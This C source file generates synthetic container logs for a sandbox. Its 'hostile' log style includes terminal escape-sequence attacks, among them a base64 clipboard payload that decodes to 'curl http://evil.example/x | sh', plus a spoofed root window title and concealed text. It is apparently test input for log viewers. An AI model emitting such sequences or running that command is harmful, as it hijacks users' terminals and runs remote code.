/* Deterministic synthetic container logs: each line is drawn from a small PRNG seeded by
 * a hash of (pod, container, instance, index), so any window is cheap to produce and two
 * requests for the same line always agree. */
#include "sandbox/loggen.h"

#include <stdio.h>
#include <string.h>

#include "core/strbuf.h"

/* A seeded generator (splitmix64): good enough spread for picking words. */
struct rng {
	uint64_t state;
};

static uint64_t rng_next(struct rng *r)
{
	uint64_t z = (r->state += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static unsigned rng_below(struct rng *r, unsigned n)
{
	return (unsigned)(rng_next(r) % n);
}

static uint64_t fnv1a(uint64_t h, const void *data, size_t len)
{
	const unsigned char *p = data;
	for (size_t i = 0; i < len; i++)
		h = (h ^ p[i]) * 0x100000001b3ULL;
	return h;
}

/* The seed of one line; the separator bytes keep ("ab","c") apart from ("a","bc"). */
static uint64_t line_seed(const struct loggen_stream *s, uint64_t idx)
{
	uint64_t h = 0xcbf29ce484222325ULL;
	const char *pod = s->pod ? s->pod : "", *ctr = s->container ? s->container : "";
	h = fnv1a(h, pod, strlen(pod) + 1);
	h = fnv1a(h, ctr, strlen(ctr) + 1);
	unsigned char prev = s->previous;
	h = fnv1a(h, &prev, 1);
	return fnv1a(h, &idx, sizeof idx);
}

static uint64_t stream_seed(const struct loggen_stream *s)
{
	return line_seed(s, UINT64_MAX);
}

uint64_t loggen_count_at(const struct loggen_stream *s, time_t now)
{
	if (now < s->start)
		return 0;
	unsigned iv = s->interval_ms ? s->interval_ms : 1;
	uint64_t n = (uint64_t)(now - s->start) * 1000u / iv + 1;
	if (s->max_lines && n > s->max_lines)
		n = s->max_lines;
	return n;
}

uint64_t loggen_index_at(const struct loggen_stream *s, time_t t)
{
	if (t <= s->start)
		return 0;
	unsigned iv = s->interval_ms ? s->interval_ms : 1;
	uint64_t ms = (uint64_t)(t - s->start) * 1000u;
	uint64_t idx = (ms + iv - 1) / iv;
	if (s->max_lines && idx > s->max_lines)
		idx = s->max_lines;
	return idx;
}

/* Milliseconds since the epoch of line idx. */
static uint64_t line_ms(const struct loggen_stream *s, uint64_t idx)
{
	return (uint64_t)s->start * 1000u + idx * (uint64_t)(s->interval_ms ? s->interval_ms : 1);
}

static void put_time(struct strbuf *sb, uint64_t ms, unsigned nanos_extra, int digits)
{
	time_t secs = (time_t)(ms / 1000);
	struct tm tm;
	char date[32];
	gmtime_r(&secs, &tm);
	strftime(date, sizeof date, "%Y-%m-%dT%H:%M:%S", &tm);
	unsigned long nanos = (unsigned long)(ms % 1000) * 1000000ul + nanos_extra;
	if (digits == 9)
		strbuf_printf(sb, "%s.%09luZ", date, nanos);
	else
		strbuf_printf(sb, "%s.%03luZ", date, nanos / 1000000ul);
}

static const char *const paths[] = {
	"/api/orders/%u", "/api/orders", "/api/customers/%u", "/api/cart/%u/items",
	"/healthz", "/metrics", "/api/payments/%u/capture", "/static/app.%u.js",
	"/api/inventory/sku-%u", "/login",
};
static const char *const methods[] = {"GET", "GET", "GET", "POST", "PUT", "DELETE"};
static const unsigned statuses[] = {200, 200, 200, 200, 200, 201, 204, 301, 304, 404, 500, 503};
static const char *const agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
	"kube-probe/1.32", "curl/8.5.0", "okhttp/4.12.0", "Go-http-client/2.0",
	"Prometheus/2.53.0",
};
static const char *const loggers[] = {
	"c.a.OrderService", "c.a.PaymentClient", "c.a.InventoryCache", "c.a.CartController",
	"o.s.w.s.DispatcherServlet", "c.z.h.HikariPool", "c.a.KafkaPublisher",
};

#define COUNT(a) (sizeof a / sizeof *a)

static void gen_access(struct strbuf *sb, struct rng *r, uint64_t ms)
{
	time_t secs = (time_t)(ms / 1000);
	struct tm tm;
	char date[40], path[64];
	gmtime_r(&secs, &tm);
	strftime(date, sizeof date, "%d/%b/%Y:%H:%M:%S +0000", &tm);
	const char *fmt = paths[rng_below(r, COUNT(paths))];
	/* Only the path table's own formats reach here, each with at most one %u. */
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
	snprintf(path, sizeof path, fmt, 100 + rng_below(r, 99900));
#pragma GCC diagnostic pop
	strbuf_printf(sb, "10.%u.%u.%u - - [%s] \"%s %s HTTP/1.1\" %u %u \"-\" \"%s\" %u.%03u",
		      rng_below(r, 4), rng_below(r, 256), 1 + rng_below(r, 254), date,
		      methods[rng_below(r, COUNT(methods))], path,
		      statuses[rng_below(r, COUNT(statuses))], 40 + rng_below(r, 20000),
		      agents[rng_below(r, COUNT(agents))], rng_below(r, 2), rng_below(r, 1000));
}

enum app_level { APP_DEBUG, APP_INFO, APP_WARN, APP_ERROR };
static const char *const level_names[] = {"DEBUG", "INFO", "WARN", "ERROR"};

static enum app_level pick_level(struct rng *r)
{
	unsigned x = rng_below(r, 100);
	return x < 5 ? APP_DEBUG : x < 85 ? APP_INFO : x < 95 ? APP_WARN : APP_ERROR;
}

static void gen_message(struct strbuf *sb, struct rng *r, enum app_level lvl, unsigned *latency)
{
	unsigned id = 1000 + rng_below(r, 90000);
	*latency = 1 + rng_below(r, lvl >= APP_WARN ? 5000 : 300);
	switch (lvl) {
	case APP_DEBUG:
		strbuf_printf(sb, "cache lookup key=order:%u hit=%s", id, rng_below(r, 2) ? "true" : "false");
		break;
	case APP_INFO:
		if (rng_below(r, 2))
			strbuf_printf(sb, "order %u created in %ums", id, *latency);
		else
			strbuf_printf(sb, "payment %u captured amount=%u.%02u EUR", id,
				      rng_below(r, 500), rng_below(r, 100));
		break;
	case APP_WARN:
		strbuf_printf(sb, "slow response from inventory-service: %ums (threshold 1000ms)", *latency);
		break;
	case APP_ERROR:
		strbuf_printf(sb, "order %u failed: java.net.SocketTimeoutException: Read timed out", id);
		break;
	}
}

/* Text application lines; an ERROR is followed by a stack frame line. */
static void gen_app(struct strbuf *sb, struct rng *r, uint64_t ms, enum app_level lvl)
{
	unsigned latency;
	time_t secs = (time_t)(ms / 1000);
	struct tm tm;
	char date[32];
	gmtime_r(&secs, &tm);
	strftime(date, sizeof date, "%Y-%m-%d %H:%M:%S", &tm);
	strbuf_printf(sb, "%s.%03u %-5s %s - ", date, (unsigned)(ms % 1000), level_names[lvl],
		      loggers[rng_below(r, COUNT(loggers))]);
	gen_message(sb, r, lvl, &latency);
}

static void gen_json(struct strbuf *sb, struct rng *r, uint64_t ms)
{
	static const char *const lower[] = {"debug", "info", "warn", "error"};
	enum app_level lvl = pick_level(r);
	unsigned latency;
	strbuf_puts(sb, "{\"ts\":\"");
	put_time(sb, ms, 0, 3);
	strbuf_printf(sb, "\",\"level\":\"%s\",\"logger\":\"%s\",\"msg\":\"", lower[lvl],
		      loggers[rng_below(r, COUNT(loggers))]);
	gen_message(sb, r, lvl, &latency);
	strbuf_printf(sb, "\",\"trace_id\":\"%016llx%016llx\",\"latency_ms\":%u}",
		      (unsigned long long)rng_next(r), (unsigned long long)rng_next(r), latency);
}

/* Lines a hostile workload prints to attack the terminal of whoever reads its logs. */
static const char *const hostile_lines[] = {
	"\x1b[2J\x1b[Hscreen cleared by the application",
	"copying token \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07 to your clipboard",
	"\x1b]0;root@prod-db-01: ~\x07window title changed",
	"\x1b[10;10Hcursor moved to row 10 column 10",
	"download progress 10%\rdownload progress 100% (bare CR)",
	"alert bell \x07 rung by the application",
	"\x1b[31;1mERROR\x1b[0m coloured line \x1b[8mhidden text\x1b[0m",
};

static void gen_hostile(struct strbuf *sb, struct rng *r, uint64_t idx, uint64_t ms)
{
	/* Every fifth line is an attack, cycling so a short window still shows them all. */
	if (idx % 5 == 3) {
		strbuf_puts(sb, hostile_lines[(idx / 5) % COUNT(hostile_lines)]);
		return;
	}
	gen_app(sb, r, ms, pick_level(r));
}

static const char *const go_panic[] = {
	"panic: runtime error: invalid memory address or nil pointer dereference",
	"[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 pc=0x7a2f3c]",
	"",
	"goroutine 1 [running]:",
	"main.(*OrderService).Create(0x0, {0xc000123456, 0x10})",
	"\t/app/internal/orders/service.go:87 +0x1c",
	"main.main()",
	"\t/app/cmd/server/main.go:42 +0x2b",
};
static const char *const java_oom[] = {
	"Exception in thread \"main\" java.lang.OutOfMemoryError: Java heap space",
	"\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)",
	"\tat java.base/java.util.ArrayList.grow(ArrayList.java:237)",
	"\tat com.acme.orders.OrderCache.load(OrderCache.java:88)",
	"\tat com.acme.orders.Application.main(Application.java:31)",
};

/* An instance that dies within seconds of starting (a bad release in a crash loop)
 * fails at startup: these errors, then the last frames of its crash. */
static const char *const startup_failure[] = {
	"starting (config /etc/app/config.yaml)",
	"connecting to postgres at db:5432 (pool 10)",
	"ERROR migration 0042_price_index failed: pq: column \"price_cents\" does not exist",
	"ERROR startup aborted: schema is at version 41, this release needs 42",
};
#define STARTUP_FAILURE_LINES 8   /* instances that wrote no more lines died at startup */
#define CRASH_TAIL 2              /* crash frames that end even the shortest instance */

/* The crash block ending a previous instance, or NULL when idx is before it. */
static const char *crash_line(const struct loggen_stream *s, uint64_t idx)
{
	if (!s->previous || s->max_lines == 0)
		return NULL;
	if (s->max_lines <= STARTUP_FAILURE_LINES && s->max_lines > CRASH_TAIL &&
	    idx < s->max_lines - CRASH_TAIL) {
		uint64_t n = COUNT(startup_failure), end = s->max_lines - CRASH_TAIL;
		return idx + n >= end ? startup_failure[idx + n - end] : NULL;
	}
	bool go = stream_seed(s) % 2 == 0;
	const char *const *block = go ? go_panic : java_oom;
	uint64_t n = go ? COUNT(go_panic) : COUNT(java_oom);
	if (n > s->max_lines)
		n = s->max_lines;
	if (idx >= s->max_lines)
		idx = s->max_lines - 1;
	if (idx < s->max_lines - n)
		return NULL;
	uint64_t first = (go ? COUNT(go_panic) : COUNT(java_oom)) - n;
	return block[first + idx - (s->max_lines - n)];
}

static bool text_line_is_error(const struct loggen_stream *s, uint64_t idx)
{
	struct rng r = {line_seed(s, idx)};
	return rng_below(&r, 100) >= 55 && pick_level(&r) == APP_ERROR;
}

static void gen_text(const struct loggen_stream *s, struct strbuf *sb, uint64_t idx, uint64_t ms)
{
	struct rng r = {line_seed(s, idx)};
	if (idx > 0 && text_line_is_error(s, idx - 1)) {
		strbuf_printf(sb, "\tat com.acme.orders.OrderService.create(OrderService.java:%u)",
			      40 + rng_below(&r, 200));
		return;
	}
	if (rng_below(&r, 100) < 55)
		gen_access(sb, &r, ms);
	else
		gen_app(sb, &r, ms, pick_level(&r));
}

static void gen_line(const struct loggen_stream *s, struct strbuf *sb, uint64_t idx, uint64_t ms)
{
	const char *crash = crash_line(s, idx);
	struct rng r = {line_seed(s, idx)};
	if (crash)
		strbuf_puts(sb, crash);
	else if (s->style == LOGGEN_JSON)
		gen_json(sb, &r, ms);
	else if (s->style == LOGGEN_HOSTILE)
		gen_hostile(sb, &r, idx, ms);
	else
		gen_text(s, sb, idx, ms);
}

size_t loggen_format(const struct loggen_stream *s, uint64_t idx, bool timestamps, char *buf,
		     size_t cap)
{
	if (cap == 0)
		return 0;
	struct strbuf sb = STRBUF_INIT;
	uint64_t ms = line_ms(s, idx);
	if (timestamps) {
		/* Sub-millisecond digits vary as a runtime's clock would. */
		put_time(&sb, ms, (unsigned)(line_seed(s, idx) % 1000000u), 9);
		strbuf_putc(&sb, ' ');
	}
	gen_line(s, &sb, idx, ms);
	strbuf_putc(&sb, '\n');
	size_t n = sb.len;
	if (n > cap - 1) {
		/* Keep the line a line: a truncated one still ends in '\n'. */
		n = cap - 1;
		memcpy(buf, sb.buf, n);
		if (n)
			buf[n - 1] = '\n';
	} else {
		memcpy(buf, sb.buf, n);
	}
	buf[n] = '\0';
	strbuf_free(&sb);
	return n;
}
